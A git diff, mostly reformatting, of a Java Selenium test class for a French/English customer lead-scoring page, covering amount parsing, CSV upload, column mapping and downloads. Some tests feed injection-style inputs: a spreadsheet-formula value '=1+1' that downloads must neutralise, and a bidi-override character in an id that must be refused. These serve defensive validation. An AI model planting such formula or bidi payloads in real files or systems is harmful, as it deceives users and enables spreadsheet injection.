@@ -33,13 +33,13 @@ import org.openqa.selenium.WebElement;
 import org.openqa.selenium.chrome.ChromeDriver;
 import org.openqa.selenium.logging.LogEntry;
 import org.openqa.selenium.logging.LogType;
-import org.openqa.selenium.support.ui.Select;
-import tools.jackson.databind.JsonNode;
 import org.openqa.selenium.support.ui.ExpectedConditions;
+import org.openqa.selenium.support.ui.Select;
 import org.openqa.selenium.support.ui.WebDriverWait;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.SpringBootTest;
 import org.springframework.boot.test.web.server.LocalServerPort;
+import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 
 /**
@@ -54,9 +54,10 @@ class WebPageTests {
     static final Path SCREENSHOTS = Path.of("target", "screenshots");
     /** A French CRM export: semicolons, decimal commas, Windows-1252, names and phones, an id above 2^53. */
     static final Path FRENCH_EXPORT = Path.of("src/test/resources/web/export-fr.csv");
+
     private static final Map<String, String> FRENCH_SEGMENTS = Map.of("Hot", "Chaud", "Warm", "Tiède", "Cold", "Froid");
-    private static final Map<String, String> FRENCH_ACTIONS = Map.of("CALL", "Appeler", "EMAIL", "Envoyer un email",
-            "NURTURE", "Relance automatique");
+    private static final Map<String, String> FRENCH_ACTIONS =
+            Map.of("CALL", "Appeler", "EMAIL", "Envoyer un email", "NURTURE", "Relance automatique");
     /** A file with its own score, segment, probability, Priority, next_action and recommendation, and columns named like Object's. */
     static final Path OWN_SCORES = Path.of("src/test/resources/web/own-scores.csv");
     /** Formulas, HTML, script links, a bidi override in an id, cells of 5 000 characters. */
@@ -87,7 +88,10 @@ class WebPageTests {
         browser.manage().window().setSize(new Dimension(1280, 900));
         browser.get("http://localhost:" + port + "/");
         // As a person waits to see the form: its labels come from the service, and the layout settles once they do.
-        waiting().until(driver -> !driver.findElement(By.cssSelector("label[for=total_spent]")).getText().isEmpty());
+        waiting()
+                .until(driver -> !driver.findElement(By.cssSelector("label[for=total_spent]"))
+                        .getText()
+                        .isEmpty());
     }
 
     private WebDriverWait waiting() {
@@ -115,7 +119,8 @@ class WebPageTests {
     private List<String> consoleErrors() {
         return browser.manage().logs().get(LogType.BROWSER).getAll().stream()
                 .filter(entry -> entry.getLevel().intValue() >= Level.SEVERE.intValue())
-                .map(LogEntry::getMessage).toList();
+                .map(LogEntry::getMessage)
+                .toList();
     }
 
     @Test
@@ -147,14 +152,17 @@ class WebPageTests {
         type("customer_age_days", "700");
         byId("score-button").click();
         waiting().until(ExpectedConditions.visibilityOfElementLocated(By.id("result")));
-        waiting().until(driver -> !byId("reasons").findElements(By.tagName("li")).isEmpty());
+        waiting()
+                .until(driver -> !byId("reasons").findElements(By.tagName("li")).isEmpty());
 
         var expected = scorer.score(new Customer(1, 2, 25, 4000, 30, 27, 60, 700));
         assertThat(byId("score-value").getText()).isEqualTo(String.valueOf(expected.score()));
-        assertThat(byId("segment").getText()).isEqualTo(FRENCH_SEGMENTS.get(expected.segment().label()));
+        assertThat(byId("segment").getText())
+                .isEqualTo(FRENCH_SEGMENTS.get(expected.segment().label()));
         assertThat(byId("base-score").getText()).startsWith("Score moyen des clients : ");
         assertThat(byId("recommendation").getText()).isEqualTo(expected.recommendation());
-        assertThat(byId("next-action").getText()).isEqualTo(expected.nextAction().text());
+        assertThat(byId("next-action").getText())
+                .isEqualTo(expected.nextAction().text());
         assertThat(byId("reasons").findElements(By.tagName("li"))).hasSizeBetween(1, 6);
         ((JavascriptExecutor) browser).executeScript("arguments[0].scrollIntoView()", byId("segment"));
         screenshot("score-one-customer");
@@ -163,14 +171,16 @@ class WebPageTests {
     @Test
     void shouldBuildTheFormFromTheServicesContractAndTakeACrmTextId() throws IOException {
         waiting().until(driver -> !byId("total_spent").getAttribute("max").isEmpty());
-        assertThat(browser.findElement(By.cssSelector("label[for=total_spent]")).getText()).isEqualTo("Montant dépensé (€)");
+        assertThat(browser.findElement(By.cssSelector("label[for=total_spent]")).getText())
+                .isEqualTo("Montant dépensé (€)");
         assertThat(byId("emails_sent").getAttribute("min")).isEqualTo("0");
         type("customer_id", "CUST-007");
         byId("score-button").click();
         waiting().until(ExpectedConditions.visibilityOfElementLocated(By.id("result")));
         assertThat(byId("customer_id-error").getText()).isEmpty();
         byId("language").click();
-        assertThat(browser.findElement(By.cssSelector("label[for=total_spent]")).getText()).isEqualTo("Amount spent (€)");
+        assertThat(browser.findElement(By.cssSelector("label[for=total_spent]")).getText())
+                .isEqualTo("Amount spent (€)");
     }
 
     @Test
@@ -190,15 +200,22 @@ class WebPageTests {
     @Test
     void shouldReadAnAmountWithADecimalCommaOrPointAndThousandsSpacesAndRefuseAnythingElse() throws IOException {
         recordRequests();
-        // However a French user writes two thousand four hundred and fifty euros ninety, the service gets 2450.9: never 245 090.
+        // However a French user writes two thousand four hundred and fifty euros ninety, the service gets 2450.9: never
+        // 245 090.
         var expected = scorer.score(new Customer(1, 5, 10, 2450.90, 8, 6, 15, 120));
         for (String amount : List.of("2450,90", "2 450,90", "2\u00a0450,90", "2\u202f450,90", "2450.90", "2 450.90")) {
             type("total_spent", amount);
             byId("score-button").click();
             waiting().until(driver -> scoreRequests().size() == 1);
-            assertThat(json.readTree(scoreRequests().getFirst()).get("total_spent").asDouble()).as(amount).isEqualTo(2450.90);
+            assertThat(json.readTree(scoreRequests().getFirst())
+                            .get("total_spent")
+                            .asDouble())
+                    .as(amount)
+                    .isEqualTo(2450.90);
             assertThat(byId("total_spent-error").getText()).isEmpty();
-            waiting().until(driver -> byId("result").isDisplayed() && byId("score-value").getText().equals(String.valueOf(expected.score())));
+            waiting()
+                    .until(driver -> byId("result").isDisplayed()
+                            && byId("score-value").getText().equals(String.valueOf(expected.score())));
             recordRequests();
         }
 
@@ -207,10 +224,18 @@ class WebPageTests {
             type("total_spent", amount);
             byId("score-button").click();
             waiting().until(driver -> !byId("total_spent-error").getText().isEmpty());
-            assertThat(byId("total_spent-error").getText()).as(amount).isEqualTo(amount.isEmpty() ? "Champ obligatoire"
-                    : amount.startsWith("-") ? "Nombre ≥ 0 attendu" : "Montant illisible : écrivez par exemple 2 450,90");
+            assertThat(byId("total_spent-error").getText())
+                    .as(amount)
+                    .isEqualTo(
+                            amount.isEmpty()
+                                    ? "Champ obligatoire"
+                                    : amount.startsWith("-")
+                                            ? "Nombre ≥ 0 attendu"
+                                            : "Montant illisible : écrivez par exemple 2 450,90");
             assertThat(byId("total_spent").getAttribute("aria-invalid")).isEqualTo("true");
-            assertThat(byId("result").isDisplayed()).as("a score beside a refused amount").isFalse();
+            assertThat(byId("result").isDisplayed())
+                    .as("a score beside a refused amount")
+                    .isFalse();
         }
         // Counts stay whole numbers, whichever separator.
         type("total_contacts", "2,5");
@@ -222,14 +247,17 @@ class WebPageTests {
         // In English, a comma separates thousands and the point is the decimal one; the messages follow the language.
         type("total_spent", "2450,90");
         byId("language").click();
-        waiting().until(driver -> byId("total_spent-error").getText().equals("Unreadable amount: write for example 2,450.90"));
+        waiting()
+                .until(driver ->
+                        byId("total_spent-error").getText().equals("Unreadable amount: write for example 2,450.90"));
         assertThat(byId("total_contacts-error").getText()).isEqualTo("A whole number ≥ 0");
         assertThat(byId("form-error").getText()).isEqualTo("Please fix the fields marked.");
         type("total_contacts", "10");
         type("total_spent", "2,450.90");
         byId("score-button").click();
         waiting().until(driver -> scoreRequests().size() == 1);
-        assertThat(json.readTree(scoreRequests().getFirst()).get("total_spent").asDouble()).isEqualTo(2450.90);
+        assertThat(json.readTree(scoreRequests().getFirst()).get("total_spent").asDouble())
+                .isEqualTo(2450.90);
         waiting().until(driver -> byId("result").isDisplayed());
     }
 
@@ -241,31 +269,48 @@ class WebPageTests {
         ((JavascriptExecutor) browser).executeScript("arguments[0].value = 'CUST-\u202e1'", byId("customer_id"));
         byId("score-button").click();
         waiting().until(driver -> !byId("customer_id-error").getText().isEmpty());
-        assertThat(byId("customer_id-error").getText()).isEqualTo("Doit être un nombre entier ≥ 0 ou un texte de 1 à 64 caractères imprimables");
+        assertThat(byId("customer_id-error").getText())
+                .isEqualTo("Doit être un nombre entier ≥ 0 ou un texte de 1 à 64 caractères imprimables");
         assertThat(byId("form-error").getText()).isEqualTo("Corrigez les champs signalés.");
         assertThat(byId("result").isDisplayed()).isFalse();
         byId("language").click();
-        waiting().until(driver -> byId("customer_id-error").getText().equals("Must be a whole number ≥ 0 or a text of 1 to 64 printable characters"));
+        waiting()
+                .until(driver -> byId("customer_id-error")
+                        .getText()
+                        .equals("Must be a whole number ≥ 0 or a text of 1 to 64 printable characters"));
     }
 
     @Test
     void shouldRankAnUploadedCsvHotFirstWithFilterAndSearch() throws IOException {
         byId("base").isDisplayed();
         browser.findElement(By.cssSelector("[data-tab=base]")).click();
-        byId("csv-file").sendKeys(Path.of("src/test/resources/web/customers.csv").toAbsolutePath().toString());
+        byId("csv-file")
+                .sendKeys(Path.of("src/test/resources/web/customers.csv")
+                        .toAbsolutePath()
+                        .toString());
         byId("batch-button").click();
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == 5);
+        waiting()
+                .until(driver -> byId("call-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == 5);
 
         List<WebElement> rows = byId("call-list").findElements(By.cssSelector("tbody tr"));
-        List<Integer> scores = rows.stream().map(row -> Integer.parseInt(row.findElements(By.tagName("td")).get(2).getText())).toList();
+        List<Integer> scores = rows.stream()
+                .map(row -> Integer.parseInt(
+                        row.findElements(By.tagName("td")).get(2).getText()))
+                .toList();
         assertThat(scores).isSortedAccordingTo((a, b) -> b - a);
-        assertThat(rows.getFirst().findElements(By.tagName("td")).get(1).getText()).isEqualTo("101");
+        assertThat(rows.getFirst().findElements(By.tagName("td")).get(1).getText())
+                .isEqualTo("101");
         assertThat(byId("counts").getText()).contains("Chaud :", "Tiède :", "Froid :");
         screenshot("score-my-base");
 
         new Select(byId("segment-filter")).selectByValue("Cold");
         assertThat(byId("call-list").findElements(By.cssSelector("tbody tr")))
-                .allSatisfy(row -> assertThat(row.findElements(By.tagName("td")).get(3).getText()).isEqualTo("Froid"));
+                .allSatisfy(row -> assertThat(
+                                row.findElements(By.tagName("td")).get(3).getText())
+                        .isEqualTo("Froid"));
         new Select(byId("segment-filter")).selectByValue("");
         type("row-search", "104");
         assertThat(byId("call-list").findElements(By.cssSelector("tbody tr"))).hasSize(1);
@@ -274,11 +319,16 @@ class WebPageTests {
     @Test
     void shouldNameTheBadRowOfACsvInWords() throws IOException {
         browser.findElement(By.cssSelector("[data-tab=base]")).click();
-        byId("csv-file").sendKeys(Path.of("src/test/resources/web/customers-bad-row.csv").toAbsolutePath().toString());
+        byId("csv-file")
+                .sendKeys(Path.of("src/test/resources/web/customers-bad-row.csv")
+                        .toAbsolutePath()
+                        .toString());
         byId("batch-button").click();
         waiting().until(driver -> !byId("batch-error").getText().isBlank());
-        assertThat(byId("batch-error").getText()).contains("rien n'a été noté",
-                "Ligne 4 - Emails envoyés : doit être supérieur ou égal à 0 (valeur « -12 »)");
+        assertThat(byId("batch-error").getText())
+                .contains(
+                        "rien n'a été noté",
+                        "Ligne 4 - Emails envoyés : doit être supérieur ou égal à 0 (valeur « -12 »)");
         screenshot("bad-row");
     }
 
@@ -292,50 +342,78 @@ class WebPageTests {
         assertThat(byId("batch-error").getText()).contains("rien n'a été noté", "« Ignorer les lignes invalides »");
         long scoredBefore = customersScored();
 
-        assertThat(browser.findElement(By.cssSelector("label[for=skip-invalid]")).getText()).isEqualTo("Ignorer les lignes invalides");
+        assertThat(browser.findElement(By.cssSelector("label[for=skip-invalid]"))
+                        .getText())
+                .isEqualTo("Ignorer les lignes invalides");
         byId("skip-invalid").click();
         byId("batch-button").click();
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == 3);
+        waiting()
+                .until(driver -> byId("call-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == 3);
         assertThat(byId("batch-error").getText()).isEmpty();
-        assertThat(byId("call-list").findElements(By.cssSelector("tbody td[data-column=customer_id]")).stream().map(WebElement::getText))
+        assertThat(byId("call-list").findElements(By.cssSelector("tbody td[data-column=customer_id]")).stream()
+                        .map(WebElement::getText))
                 .containsExactlyInAnyOrder("201", "202", "205");
-        waiting().until(driver -> byId("rejected-list").findElements(By.cssSelector("tbody tr")).size() == 3);
-        assertThat(byId("rejected-count").getText()).isEqualTo("2 lignes ignorées car invalides : elles n'ont pas été notées.");
-        assertThat(byId("rejected-list").findElements(By.cssSelector("thead th")).stream().map(WebElement::getText))
+        waiting()
+                .until(driver -> byId("rejected-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == 3);
+        assertThat(byId("rejected-count").getText())
+                .isEqualTo("2 lignes ignorées car invalides : elles n'ont pas été notées.");
+        assertThat(byId("rejected-list").findElements(By.cssSelector("thead th")).stream()
+                        .map(WebElement::getText))
                 .containsExactly("Ligne", "Colonne", "Valeur", "Raison");
         assertThat(byId("rejected-list").findElements(By.cssSelector("tbody tr")).stream()
-                .map(row -> row.findElements(By.tagName("td")).stream().map(WebElement::getText).toList())).containsExactly(
-                List.of("4", "Emails envoyés", "-12", "doit être supérieur ou égal à 0"),
-                List.of("5", "Nb contacts", "=1+1", "doit être un nombre entier supérieur ou égal à 0"),
-                List.of("5", "Visites site", "abc", "doit être un nombre entier supérieur ou égal à 0"));
+                        .map(row -> row.findElements(By.tagName("td")).stream()
+                                .map(WebElement::getText)
+                                .toList()))
+                .containsExactly(
+                        List.of("4", "Emails envoyés", "-12", "doit être supérieur ou égal à 0"),
+                        List.of("5", "Nb contacts", "=1+1", "doit être un nombre entier supérieur ou égal à 0"),
+                        List.of("5", "Visites site", "abc", "doit être un nombre entier supérieur ou égal à 0"));
         // The three valid customers were scored once: the list of bad rows did not cost a second scoring.
         assertThat(customersScored() - scoredBefore).isEqualTo(3);
         ((JavascriptExecutor) browser).executeScript("arguments[0].scrollIntoView()", byId("rejected"));
         screenshot("skipped-rows");
 
         // The list as a spreadsheet, its values made inert as in the call list's download.
-        assertThat(download("download-rejected").substring(1).lines().toList()).containsExactly("Ligne;Colonne;Valeur;Raison",
-                "4;Emails envoyés;-12;doit être supérieur ou égal à 0",
-                "5;Nb contacts;'=1+1;doit être un nombre entier supérieur ou égal à 0",
-                "5;Visites site;abc;doit être un nombre entier supérieur ou égal à 0");
+        assertThat(download("download-rejected").substring(1).lines().toList())
+                .containsExactly(
+                        "Ligne;Colonne;Valeur;Raison",
+                        "4;Emails envoyés;-12;doit être supérieur ou égal à 0",
+                        "5;Nb contacts;'=1+1;doit être un nombre entier supérieur ou égal à 0",
+                        "5;Visites site;abc;doit être un nombre entier supérieur ou égal à 0");
 
         byId("language").click();
-        waiting().until(driver -> byId("rejected-count").getText().equals("2 rows skipped as invalid: they were not scored."));
+        waiting()
+                .until(driver ->
+                        byId("rejected-count").getText().equals("2 rows skipped as invalid: they were not scored."));
         waiting().until(driver -> byId("rejected-list").getText().contains("must be a whole number ≥ 0"));
-        assertThat(download("download-rejected").lines().toList()).containsExactly("Line,Column,Value,Reason",
-                "4,Emails envoyés,-12,must be 0 or more", "5,Nb contacts,'=1+1,must be a whole number ≥ 0",
-                "5,Visites site,abc,must be a whole number ≥ 0");
+        assertThat(download("download-rejected").lines().toList())
+                .containsExactly(
+                        "Line,Column,Value,Reason",
+                        "4,Emails envoyés,-12,must be 0 or more",
+                        "5,Nb contacts,'=1+1,must be a whole number ≥ 0",
+                        "5,Visites site,abc,must be a whole number ≥ 0");
 
         // Pasted JSON: the service's answer lists the customers it left out itself, by their place in the list.
         ((JavascriptExecutor) browser).executeScript("arguments[0].value = ''", byId("csv-file"));
-        type("json-text", "[{\"customer_id\": 1, \"days_since_last_contact\": 5, \"total_contacts\": 10, \"total_spent\": 1500.5,"
-                + " \"emails_sent\": 8, \"emails_opened\": 6, \"website_visits\": 15, \"customer_age_days\": 120},"
-                + " {\"customer_id\": 2, \"days_since_last_contact\": 5, \"total_contacts\": 10, \"total_spent\": 1500.5,"
-                + " \"emails_sent\": -8, \"emails_opened\": 6, \"website_visits\": 15, \"customer_age_days\": 120}]");
+        type(
+                "json-text",
+                "[{\"customer_id\": 1, \"days_since_last_contact\": 5, \"total_contacts\": 10, \"total_spent\": 1500.5,"
+                        + " \"emails_sent\": 8, \"emails_opened\": 6, \"website_visits\": 15, \"customer_age_days\": 120},"
+                        + " {\"customer_id\": 2, \"days_since_last_contact\": 5, \"total_contacts\": 10, \"total_spent\": 1500.5,"
+                        + " \"emails_sent\": -8, \"emails_opened\": 6, \"website_visits\": 15, \"customer_age_days\": 120}]");
         byId("batch-button").click();
-        waiting().until(driver -> byId("rejected-count").getText().equals("1 row skipped as invalid: it was not scored."));
+        waiting()
+                .until(driver ->
+                        byId("rejected-count").getText().equals("1 row skipped as invalid: it was not scored."));
         assertThat(byId("call-list").findElements(By.cssSelector("tbody tr"))).hasSize(1);
-        assertThat(byId("rejected-list").findElements(By.cssSelector("tbody td")).stream().map(WebElement::getText))
+        assertThat(byId("rejected-list").findElements(By.cssSelector("tbody td")).stream()
+                        .map(WebElement::getText))
                 .containsExactly("Customer #2", "Emails sent", "", "must be 0 or more");
     }
 
@@ -346,7 +424,8 @@ class WebPageTests {
         type("json-text", "{oops");
         byId("batch-button").click();
         waiting().until(driver -> !byId("batch-error").getText().isBlank());
-        assertThat(byId("batch-error").getText()).isEqualTo("Le JSON collé n'est pas lisible : vérifiez qu'il est complet.\ndétail technique");
+        assertThat(byId("batch-error").getText())
+                .isEqualTo("Le JSON collé n'est pas lisible : vérifiez qu'il est complet.\ndétail technique");
         // A refusal the page has no code for: the service's own words, which come in the page's language.
         type("json-text", "{\"clients\": \"x\"}");
         byId("batch-button").click();
@@ -355,45 +434,63 @@ class WebPageTests {
         type("json-text", "");
 
         // A column no field's name matches, and none chosen for it: named by its label, with what to do about it.
-        Path missing = Files.writeString(Path.of("target", "missing-column.csv"), "N° client;Jours depuis le dernier contact;Nb contacts;"
-                + "Montant dépensé (€);Mails expédiés;Emails ouverts;Visites site;Ancienneté (jours)\r\n201;2;25;4 000;30;27;60;700\r\n");
+        Path missing = Files.writeString(
+                Path.of("target", "missing-column.csv"),
+                "N° client;Jours depuis le dernier contact;Nb contacts;"
+                        + "Montant dépensé (€);Mails expédiés;Emails ouverts;Visites site;Ancienneté (jours)\r\n201;2;25;4 000;30;27;60;700\r\n");
         byId("csv-file").sendKeys(missing.toAbsolutePath().toString());
         waiting().until(driver -> byId("mapping").isDisplayed());
         byId("batch-button").click();
         waiting().until(driver -> byId("batch-error").getText().contains("Emails envoyés"));
-        assertThat(byId("batch-error").getText()).isEqualTo("Il manque la colonne « Emails envoyés » : choisissez ci-dessus laquelle "
-                + "de vos colonnes la contient, ou renommez-la « Emails envoyés ».");
+        assertThat(byId("batch-error").getText())
+                .isEqualTo("Il manque la colonne « Emails envoyés » : choisissez ci-dessus laquelle "
+                        + "de vos colonnes la contient, ou renommez-la « Emails envoyés ».");
         screenshot("missing-column");
         byId("language").click();
         waiting().until(driver -> byId("batch-error").getText().contains("Emails sent"));
-        assertThat(byId("batch-error").getText()).isEqualTo("The column “Emails sent” is missing: choose above which of your columns "
-                + "holds it, or rename it “Emails sent”.");
+        assertThat(byId("batch-error").getText())
+                .isEqualTo("The column “Emails sent” is missing: choose above which of your columns "
+                        + "holds it, or rename it “Emails sent”.");
 
-        // Where the page could not ask (the service's answer on columns lost), the service's own refusal, in the page's language.
-        ((JavascriptExecutor) browser).executeScript("const send = window.fetch; window.fetch = (url, options) =>"
-                + " String(url).startsWith('/api/contract/columns') ? Promise.reject(new TypeError('lost')) : send(url, options);");
+        // Where the page could not ask (the service's answer on columns lost), the service's own refusal, in the page's
+        // language.
+        ((JavascriptExecutor) browser)
+                .executeScript(
+                        "const send = window.fetch; window.fetch = (url, options) =>"
+                                + " String(url).startsWith('/api/contract/columns') ? Promise.reject(new TypeError('lost')) : send(url, options);");
         byId("csv-file").sendKeys(missing.toAbsolutePath().toString());
         byId("batch-button").click();
         waiting().until(driver -> byId("batch-error").getText().startsWith("The base was refused"));
-        assertThat(byId("batch-error").getText()).isEqualTo("The base was refused, nothing was scored:\n"
-                + "The column “Emails sent” is missing: if your file has it under another name, rename it “Emails sent”.");
+        assertThat(byId("batch-error").getText())
+                .isEqualTo(
+                        "The base was refused, nothing was scored:\n"
+                                + "The column “Emails sent” is missing: if your file has it under another name, rename it “Emails sent”.");
         byId("language").click();
         waiting().until(driver -> byId("batch-error").getText().contains("Emails envoyés"));
-        assertThat(byId("batch-error").getText()).isEqualTo("La base a été refusée, rien n'a été noté :\n"
-                + "Il manque la colonne « Emails envoyés » : si votre fichier l'a sous un autre nom, renommez-la « Emails envoyés ».");
+        assertThat(byId("batch-error").getText())
+                .isEqualTo(
+                        "La base a été refusée, rien n'a été noté :\n"
+                                + "Il manque la colonne « Emails envoyés » : si votre fichier l'a sous un autre nom, renommez-la « Emails envoyés ».");
     }
 
     @Test
     void shouldAskWhichColumnHoldsAFieldTheServiceDoesNotFindAndOfferTheChoiceAgainForTheNextFile() throws Exception {
         consoleErrors();
         ((JavascriptExecutor) browser).executeScript("localStorage.removeItem('smoft-column-mapping')");
-        // A French export in Windows-1252 whose only accents before its last row, 64 KB down, are in the odd column's name;
+        // A French export in Windows-1252 whose only accents before its last row, 64 KB down, are in the odd column's
+        // name;
         // a quoted name holds the separator.
-        String header = "\"Ref; client\";Prenom;Nom;Dernier échange (j);Nb contacts;Montant depense;Emails envoyes;Emails ouverts;"
-                + "Visites site;Anciennete (jours)";
+        String header =
+                "\"Ref; client\";Prenom;Nom;Dernier échange (j);Nb contacts;Montant depense;Emails envoyes;Emails ouverts;"
+                        + "Visites site;Anciennete (jours)";
         StringBuilder lines = new StringBuilder(header);
         for (int row = 1; row <= 250; row++) {
-            lines.append("\r\nC-").append(row).append(";Jean;Martin ").append("x".repeat(250)).append(";").append(row % 200)
+            lines.append("\r\nC-")
+                    .append(row)
+                    .append(";Jean;Martin ")
+                    .append("x".repeat(250))
+                    .append(";")
+                    .append(row % 200)
                     .append(";5;1 200,50;20;10;5;400");
         }
         lines.append("\r\nC-9999;Hélène;Crémieux;2;25;4 000,90;30;27;60;700\r\n");
@@ -404,9 +501,11 @@ class WebPageTests {
 
         // The page asks, before anything is sent, among the columns no field took.
         waiting().until(driver -> byId("mapping").isDisplayed());
-        assertThat(byId("mapping-intro").getText()).isEqualTo("Le service ne trouve pas toutes ses colonnes dans « dernier-echange.csv » : "
-                + "choisissez laquelle de vos colonnes contient chacune.");
-        assertThat(byId("mapping-fields").findElements(By.tagName("label")).stream().map(WebElement::getText))
+        assertThat(byId("mapping-intro").getText())
+                .isEqualTo("Le service ne trouve pas toutes ses colonnes dans « dernier-echange.csv » : "
+                        + "choisissez laquelle de vos colonnes contient chacune.");
+        assertThat(byId("mapping-fields").findElements(By.tagName("label")).stream()
+                        .map(WebElement::getText))
                 .containsExactly("Jours depuis le dernier contact");
         var days = new Select(byId("map-days_since_last_contact"));
         assertThat(days.getOptions().stream().map(WebElement::getText))
@@ -415,39 +514,65 @@ class WebPageTests {
         screenshot("mapping-step");
         days.selectByVisibleText("Dernier échange (j)");
         byId("batch-button").click();
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == 251);
+        waiting()
+                .until(driver -> byId("call-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == 251);
         assertThat(byId("batch-error").getText()).isEmpty();
 
-        // Scored on the column chosen, the rest of the file read in its own charset; the list and downloads keep its names.
+        // Scored on the column chosen, the rest of the file read in its own charset; the list and downloads keep its
+        // names.
         type("row-search", "crémieux");
-        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == 1);
+        waiting()
+                .until(driver -> byId("call-list")
+                                .findElements(By.cssSelector("tbody tr"))
+                                .size()
+                        == 1);
         WebElement helene = byId("call-list").findElement(By.cssSelector("tbody tr"));
         assertThat(cell(helene, "name").getText()).isEqualTo("Hélène Crémieux");
-        assertThat(cell(helene, "score").getText()).isEqualTo(String.valueOf(scorer.score(new Customer(1, 2, 25, 4000.90, 30, 27, 60, 700)).score()));
-        assertThat(download("download-all").substring(1).lines().findFirst().orElseThrow()).startsWith(header + ";score;")
+        assertThat(cell(helene, "score").getText())
+                .isEqualTo(String.valueOf(scorer.score(new Customer(1, 2, 25, 4000.90, 30, 27, 60, 700))
+                        .score()));
+        assertThat(download("download-all").substring(1).lines().findFirst().orElseThrow())
+                .startsWith(header + ";score;")
                 .doesNotContain("days_since_last_contact");
 
         // The next file with the same columns: the choice is made again, said, and can be changed; here in English.
-        Path next = Files.writeString(Path.of("target", "dernier-echange-suite.csv"), header
-                + "\r\nD-1;Gérard;Lévy;300;1;0;40;0;0;900\r\nD-2;Anaïs;Noël;1;30;5 000;40;38;80;800\r\n", windows1252);
+        Path next = Files.writeString(
+                Path.of("target", "dernier-echange-suite.csv"),
+                header + "\r\nD-1;Gérard;Lévy;300;1;0;40;0;0;900\r\nD-2;Anaïs;Noël;1;30;5 000;40;38;80;800\r\n",
+                windows1252);
         browser.get("http://localhost:" + port + "/");
-        waiting().until(driver -> !driver.findElement(By.cssSelector("label[for=total_spent]")).getText().isEmpty());
+        waiting()
+                .until(driver -> !driver.findElement(By.cssSelector("label[for=total_spent]"))
+                        .getText()
+                        .isEmpty());
         byId("language").click();
         browser.findElement(By.cssSelector("[data-tab=base]")).click();
         byId("csv-file").sendKeys(next.toAbsolutePath().toString());
         waiting().until(driver -> byId("mapping-note").isDisplayed());
-        assertThat(byId("mapping-note").getText()).isEqualTo("Chosen as for your previous file: Days since last contact = “Dernier échange (j)”. "
-                + "You can change this choice.");
-        assertThat(byId("mapping-intro").getText()).isEqualTo("The service does not find all its columns in “dernier-echange-suite.csv”: "
-                + "choose which of your columns holds each.");
-        assertThat(new Select(byId("map-days_since_last_contact")).getFirstSelectedOption().getText())
+        assertThat(byId("mapping-note").getText())
+                .isEqualTo("Chosen as for your previous file: Days since last contact = “Dernier échange (j)”. "
+                        + "You can change this choice.");
+        assertThat(byId("mapping-intro").getText())
+                .isEqualTo("The service does not find all its columns in “dernier-echange-suite.csv”: "
+                        + "choose which of your columns holds each.");
+        assertThat(new Select(byId("map-days_since_last_contact"))
+                        .getFirstSelectedOption()
+                        .getText())
                 .isEqualTo("Dernier échange (j)");
         List<WebElement> rows = rank(next, 2);
         assertThat(rows.stream().map(row -> cell(row, "name").getText())).containsExactly("Anaïs Noël", "Gérard Lévy");
-        assertThat(cell(rows.getLast(), "score").getText()).isEqualTo(String.valueOf(scorer.score(new Customer(1, 300, 1, 0, 40, 0, 0, 900)).score()));
+        assertThat(cell(rows.getLast(), "score").getText())
+                .isEqualTo(String.valueOf(
+                        scorer.score(new Customer(1, 300, 1, 0, 40, 0, 0, 900)).score()));
         byId("language").click();
-        waiting().until(driver -> byId("mapping-note").getText().startsWith("Choisi comme pour votre fichier précédent : "
-                + "Jours depuis le dernier contact = « Dernier échange (j) »."));
+        waiting()
+                .until(driver -> byId("mapping-note")
+                        .getText()
+                        .startsWith("Choisi comme pour votre fichier précédent : "
+                                + "Jours depuis le dernier contact = « Dernier échange (j) »."));
         // Changed by hand, it is no longer said to come from the previous file.
         new Select(byId("map-days_since_last_contact")).selectByVisibleText("Nom");
         assertThat(byId("mapping-note").isDisplayed()).isFalse();
@@ -464,7 +589,8 @@ class WebPageTests {
         assertThat(hot).isBetween(1, 4);
         List<String> shown = download("download").substring(1).lines().toList();
         assertThat(shown).hasSize(1 + hot);
-        assertThat(shown.subList(1, shown.size())).allSatisfy(line -> assertThat(line).contains(";Chaud;"));
+        assertThat(shown.subList(1, shown.size()))
+                .allSatisfy(line -> assertThat(line).contains(";Chaud;"));
         assertThat(download("download-all").substring(1).lines().toList()).hasSize(6);
         type("row-search", "crémerie");
         assertThat(download("download").substring(1).lines().toList()).hasSize(2);
@@ -475,12 +601,19 @@ class WebPageTests {
 
     @Test
     void shouldNameACustomerByFirstAndLastNameWhenTheFileHasBoth() throws Exception {
-        String fields = "customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;emails_opened;website_visits;customer_age_days";
-        Path french = Files.writeString(Path.of("target", "prenom-nom.csv"), "Prénom;Nom;" + fields + "\r\nÉlise;Crémieux;301;2;25;4000;30;27;60;700\r\n");
+        String fields =
+                "customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;emails_opened;website_visits;customer_age_days";
+        Path french = Files.writeString(
+                Path.of("target", "prenom-nom.csv"),
+                "Prénom;Nom;" + fields + "\r\nÉlise;Crémieux;301;2;25;4000;30;27;60;700\r\n");
         assertThat(cell(rank(french, 1).getFirst(), "name").getText()).isEqualTo("Élise Crémieux");
-        Path english = Files.writeString(Path.of("target", "first-last.csv"), ("First name;Last name;" + fields
-                + "\r\nJohn;Smith;302;2;25;4000;30;27;60;700\r\nMary;Jones;303;300;1;0;40;0;0;900\r\n").replace(';', ','));
-        assertThat(rank(english, 2).stream().map(row -> cell(row, "name").getText())).containsExactly("John Smith", "Mary Jones");
+        Path english = Files.writeString(
+                Path.of("target", "first-last.csv"),
+                ("First name;Last name;" + fields
+                                + "\r\nJohn;Smith;302;2;25;4000;30;27;60;700\r\nMary;Jones;303;300;1;0;40;0;0;900\r\n")
+                        .replace(';', ','));
+        assertThat(rank(english, 2).stream().map(row -> cell(row, "name").getText()))
+                .containsExactly("John Smith", "Mary Jones");
         type("row-search", "john smith");
         assertThat(byId("call-list").findElements(By.cssSelector("tbody tr"))).hasSize(1);
     }
@@ -490,7 +623,9 @@ class WebPageTests {
         byId("score-button").click();
         waiting().until(driver -> byId("recommendation").getText().contains("Priorité"));
         byId("language").click();
